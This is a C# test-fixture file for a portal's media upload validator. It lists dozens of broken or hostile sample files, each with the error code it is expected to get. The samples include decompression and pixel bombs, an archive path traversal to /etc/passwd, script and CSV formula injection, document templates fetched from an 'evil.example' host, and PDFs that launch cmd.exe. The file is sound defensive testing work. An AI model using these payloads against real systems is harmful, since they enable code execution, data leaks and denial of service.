using CariccPortal.Media;
using static CariccPortal.Media.MediaErrorCode;

namespace CariccPortal.Tests.Media;

/// <summary>Uploads that are broken or meant to do harm, and why each is refused.</summary>
public static class MaliciousUploads
{
    private static readonly Dictionary<string, (string Name, Func<byte[]> Make, MediaErrorCode Why)> Uploads = new(StringComparer.Ordinal)
    {
        ["nothing at all"] = ("empty.jpg", () => [], Empty),
        ["a text of spaces"] = ("empty.txt", () => SampleDocuments.Bytes(" \n\t\n"), Empty),
        ["one byte more than is taken"] = ("large.txt", () => new byte[20_000_001], TooLarge),
        ["a pixel bomb as PNG"] = ("bomb.png", () => SampleImages.Png(1, 1, 60_000, 60_000), TooManyPixels),
        ["a pixel bomb as JPEG"] = ("bomb.jpg", () => SampleImages.JpegHeader(65_500, 65_500), TooManyPixels),
        ["a pixel bomb as WebP"] = ("bomb.webp", () => SampleImages.WebPHeader(16_384, 16_384), TooManyPixels),
        ["a pixel bomb as HEIC"] = ("bomb.heic", () => SampleImages.HeifHeader("heic", 100_000, 100_000), TooManyPixels),
        ["a pixel bomb as AVIF"] = ("bomb.avif", () => SampleImages.HeifHeader("avif", 2_000_000_000, 2_000_000_000), TooManyPixels),
        ["a picture as long as a street"] = ("long.png", () => SampleImages.Png(1, 1, 1, 40_000_000), TooManyPixels),
        ["a size below nothing"] = ("minus.png", () => SampleImages.Png(1, 1, -5, -5), Corrupt),
        ["a picture without any width"] = ("none.png", () => SampleImages.Png(1, 1, 0, 10), Corrupt),
        ["a scan that comes back thousands of times"] = ("scans.jpg", () => SampleImages.JpegWithManyScans(4000, 3000), Corrupt),
        ["a HEIC that says it is smaller than it is"] = ("lies.heic", () => SampleImages.HeicWithWrongSize(2000, 1500), Corrupt),
        ["a WebP that says it is smaller than it is"] = ("lies.webp", () => SampleImages.WebPWithWrongSize(2000, 1500), Corrupt),
        ["more memory than a picture may take"] = ("memory.jpg", () => VipsTool.Convert(SampleImages.Png(6900, 6900), "jpg[interlace,Q=95,subsample_mode=off]"), MemoryLimitExceeded),
        ["half a JPEG"] = ("half.jpg", () => SampleImages.Jpeg(800, 600)[..3000], Corrupt),
        ["half a PNG"] = ("half.png", () => SampleImages.Png(800, 600)[..1500], Corrupt),
        ["half a WebP"] = ("half.webp", () => VipsTool.Convert(SampleImages.Png(800, 600), "webp")[..300], Corrupt),
        ["half a HEIC"] = ("half.heic", () => VipsTool.Convert(SampleImages.Png(800, 600), "heic[compression=hevc]")[..700], Corrupt),
        ["noise behind the first bytes of a JPEG"] = ("noise.jpg", () => [0xFF, 0xD8, 0xFF, .. RandomBytes(5000)], Corrupt),
        ["noise behind the first bytes of a PNG"] = ("noise.png", () => [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, .. RandomBytes(5000)], Corrupt),
        ["an SVG"] = ("picture.svg", () => SampleDocuments.Bytes("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"), UnsupportedFormat),
        ["an SVG that is called a PNG"] = ("picture.png", () => SampleDocuments.Bytes("<?xml version=\"1.0\"?>\n<!DOCTYPE svg [<!ENTITY a \"b\">]>\n<svg/>"), UnsupportedFormat),
        ["a page that is called a text"] = ("page.txt", () => SampleDocuments.Bytes("\uFEFF  <!doctype html><script>alert(1)</script>"), UnsupportedFormat),
        ["a GIF"] = ("picture.gif", () => [.. "GIF89a"u8, .. RandomBytes(100)], UnsupportedFormat),
        ["a TIFF"] = ("picture.jpg", () => [0x49, 0x49, 0x2A, 0x00, .. RandomBytes(100)], UnsupportedFormat),
        ["a program that is called a picture"] = ("holiday.jpg", () => [.. "MZ"u8, .. RandomBytes(1000)], UnsupportedFormat),
        ["a program of Linux that is called a PDF"] = ("report.pdf", () => [0x7F, .. "ELF"u8, .. RandomBytes(1000)], UnsupportedFormat),
        ["an old Office file"] = ("old.doc", () => [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. RandomBytes(1000)], UnsupportedFormat),
        ["an archive"] = ("all.zip", () => SampleDocuments.Zip(("a.txt", SampleDocuments.Bytes("a"))), UnsupportedFormat),
        ["an archive that is called a Word file"] = ("report.docx", () => SampleDocuments.Zip(("virus.exe", SampleDocuments.Bytes("MZ"))), UnsupportedFormat),
        ["noise that is called a text"] = ("noise.txt", () => [0xC3, 0x28, 0xFF, 0xFE, 0x00], NotUtf8),
        ["a text with zeros in it"] = ("zero.txt", () => SampleDocuments.Bytes("a\0b"), NotUtf8),
        ["a table in the letters of Windows"] = ("table.csv", () => [0xCF, 0xF0, 0xE8, 0xE2, 0xE5, 0xF2, (byte)';', (byte)'1'], NotUtf8),
        ["a table with a formula that starts a program"] = ("table.csv", () => SampleDocuments.Bytes("Country;Kilograms\nKazakhstan;=cmd|'/c calc'!A0\n"), ContainsFormula),
        ["a formula behind a quotation mark and a plus"] = ("table.csv", () => SampleDocuments.Bytes("a,\"+HYPERLINK(\"\"https://evil.example\"\")\"\n"), ContainsFormula),
        ["a Word file with macros"] = ("macro.docx", () => SampleDocuments.Docx(("word/vbaProject.bin", RandomBytes(100))), ContainsMacros),
        ["a Word file that says it has macros"] = ("macro.docm", () => SampleDocuments.OpenXml("application/vnd.ms-word.document.macroEnabled.main+xml", "word/document.xml", ""), ContainsMacros),
        ["macros under another name"] = ("macro.docx", () => SampleDocuments.OpenXml("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", "word/document.xml",
            "<Override PartName=\"/word/fonts.bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>", ("word/fonts.bin", RandomBytes(100))), ContainsMacros),
        ["an Excel file with a sheet of macros"] = ("macro.xlsx", () => SampleDocuments.Xlsx(("xl/macrosheets/sheet1.xml", SampleDocuments.Bytes("<x/>"))), ContainsMacros),
        ["a workbook with macros within a presentation"] = ("talk.pptx", () => SampleDocuments.Pptx(("ppt/embeddings/data.xlsx", SampleDocuments.Xlsx(("xl/vbaProject.bin", RandomBytes(100))))), ContainsMacros),
        ["a program within a Word file"] = ("report.docx", () => SampleDocuments.Docx(("word/embeddings/oleObject1.bin", RandomBytes(100))), ActiveContent),
        ["a template that is fetched from elsewhere"] = ("report.docx", () => SampleDocuments.Docx(SampleDocuments.ExternalReference("attachedTemplate", "https://evil.example/t.dotm")), ExternalReference),
        ["a template on a share"] = ("report.docx", () => SampleDocuments.Docx(SampleDocuments.ExternalReference("attachedTemplate", "file://evil.example/t.dotm")), ExternalReference),
        ["a picture that tells its owner who reads"] = ("report.docx", () => SampleDocuments.Docx(SampleDocuments.ExternalReference("image", "https://evil.example/1.png")), ExternalReference),
        ["entities that multiply in a Word file"] = ("report.docx", () => SampleDocuments.Zip(("[Content_Types].xml", SampleDocuments.Bytes("<!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;\">]><Types>&b;</Types>"))), Corrupt),
        ["a text with Basic in it"] = ("text.odt", () => SampleDocuments.Odt(("Basic/Standard/Module1.xml", SampleDocuments.Bytes("<x/>"))), ContainsMacros),
        ["a spreadsheet with Python in it"] = ("table.ods", () => SampleDocuments.Ods(("Scripts/python/a.py", SampleDocuments.Bytes("import os"))), ContainsMacros),
        ["a zip bomb that is called a Word file"] = ("bomb.docx", () => SampleDocuments.Docx(("word/media/zeros.bin", new byte[110_000_000])), MemoryLimitExceeded),
        ["an archive of ten thousand parts"] = ("parts.docx", () => SampleDocuments.Docx([.. Enumerable.Range(0, 10_000).Select(number => ($"word/{number}.xml", Array.Empty<byte>()))]), MemoryLimitExceeded),
        ["an archive whose part is named twice"] = ("twice.docx", () => SampleDocuments.Docx(("word/document.xml", SampleDocuments.Bytes("<other/>"))), Corrupt),
        ["an archive with a way out of its folder"] = ("out.docx", () => SampleDocuments.Docx(("../../etc/passwd", SampleDocuments.Bytes("x"))), Corrupt),
        ["an archive that is cut"] = ("cut.docx", () => SampleDocuments.Docx()[..^40], Corrupt),
        ["a page behind a Word file"] = ("two.docx", () => [.. SampleDocuments.Docx(), .. "<script>alert(1)</script>"u8], Polyglot),
        ["a page before a PDF"] = ("two.pdf", () => [.. "<html><script>alert(1)</script>\n"u8, .. SampleDocuments.Pdf()], Polyglot),
        ["a PDF that is an archive too"] = ("two.pdf", () => [.. SampleDocuments.Pdf(), .. SampleDocuments.Zip(("a.exe", SampleDocuments.Bytes("MZ")))], Polyglot),
        ["a PDF that hides in an archive's comment"] = ("two.pdf", ArchiveWithinPdf, Polyglot),
        ["a PDF that breaks off"] = ("cut.pdf", () => SampleDocuments.Pdf()[..^10], Corrupt),
        ["a PDF with a script"] = ("script.pdf", () => SampleDocuments.Pdf("4 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n", "/OpenAction 4 0 R"), ActiveContent),
        ["a PDF with a script written by numbers"] = ("script.pdf", () => SampleDocuments.Pdf("4 0 obj\n<< /S /J#61v#61Script /JS (app.alert(1)) >>\nendobj\n", "/OpenAction 4 0 R"), ActiveContent),
        ["a PDF with a script in a packed stream"] = ("script.pdf", () => SampleDocuments.PdfWithObjectStream("9 0 << /S /JavaScript /JS (app.alert(1)) >>"), ActiveContent),
        ["a PDF whose packed stream is wrapped twice"] = ("script.pdf", () => SampleDocuments.PdfWithObjectStream("9 0 << /S /URI >>", "/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]"), ActiveContent),
        ["a PDF that starts a program"] = ("launch.pdf", () => SampleDocuments.Pdf("4 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n", "/OpenAction 4 0 R"), ActiveContent),
        ["a PDF that carries a file"] = ("carries.pdf", () => SampleDocuments.Pdf("4 0 obj\n<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream\nendobj\n"), ActiveContent),
        ["a PDF that is locked"] = ("locked.pdf", () => SampleDocuments.Pdf("trailer\n<< /Encrypt 9 0 R >>\n"), PasswordProtected),
        ["a PDF whose streams swell"] = ("swells.pdf", () => SampleDocuments.PdfWithObjectStream(new string('a', 110_000_000), "/Filter /FlateDecode"), MemoryLimitExceeded),
    };

    public static TheoryData<string> All { get; } = [.. Uploads.Keys];

    /// <summary>Whether vips is needed to make it, or for it to be refused as it should be.</summary>
    public static bool NeedsVips(string upload) => Uploads[upload].Name.Split('.')[^1] is "jpg" or "png" or "webp" or "heic" && Uploads[upload].Why is Corrupt or MemoryLimitExceeded;

    public static (string Name, byte[] Content, MediaErrorCode Why) Get(string upload) => (Uploads[upload].Name, Uploads[upload].Make(), Uploads[upload].Why);

    private static byte[] ArchiveWithinPdf()
    {
        var pdf = SampleDocuments.Pdf();
        var zip = SampleDocuments.Zip(("a.exe", SampleDocuments.Bytes("MZ")));
        byte[] tail = [.. "\n%%EOF\n"u8];
        (zip[^2], zip[^1]) = ((byte)tail.Length, 0);
        return [.. pdf, .. zip, .. tail];
    }

    private static byte[] RandomBytes(int count)
    {
        var noise = new byte[count];
        new Random(20240327).NextBytes(noise);
        return noise;
    }
}
